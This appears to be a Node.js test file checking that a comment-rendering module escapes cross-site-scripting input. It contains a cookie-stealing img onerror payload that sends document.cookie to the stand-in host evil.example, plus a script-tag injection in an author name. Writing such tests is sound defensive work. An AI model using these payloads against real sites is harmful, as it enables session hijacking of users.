'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { loadModule, fakeDocument } = require('_testkit');

const document = fakeDocument();
globalThis.document = document;

const load = () => loadModule(__dirname, 'app.mjs');

const EVIL = '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">';

/** True when the markup the page would contain has a live tag from the payload. */
const hasLiveImg = (html) => /<img\b[^>]*\bonerror\s*=/i.test(html);

test('comment body cannot inject markup', async () => {
  const mod = await load();
  const el = document.createElement('section');
  mod.renderComments(el, [{ id: 1, author: 'eve', body: EVIL, createdAt: '2024-05-01' }]);
  assert.equal(hasLiveImg(el.innerHTML), false, el.innerHTML);
});

test('author name cannot inject markup', async () => {
  const mod = await load();
  const el = document.createElement('section');
  mod.renderComments(el, [{ id: 1, author: '<script>steal()</script>', body: 'hi', createdAt: '2024-05-01' }]);
  assert.ok(!/<script>steal\(\)<\/script>/i.test(el.innerHTML), el.innerHTML);
});

test('appendComment cannot inject markup', async () => {
  const mod = await load();
  const el = document.createElement('section');
  mod.appendComment(el, { id: 2, author: 'eve', body: EVIL, createdAt: '2024-05-01' });
  assert.equal(hasLiveImg(el.innerHTML), false, el.innerHTML);
});
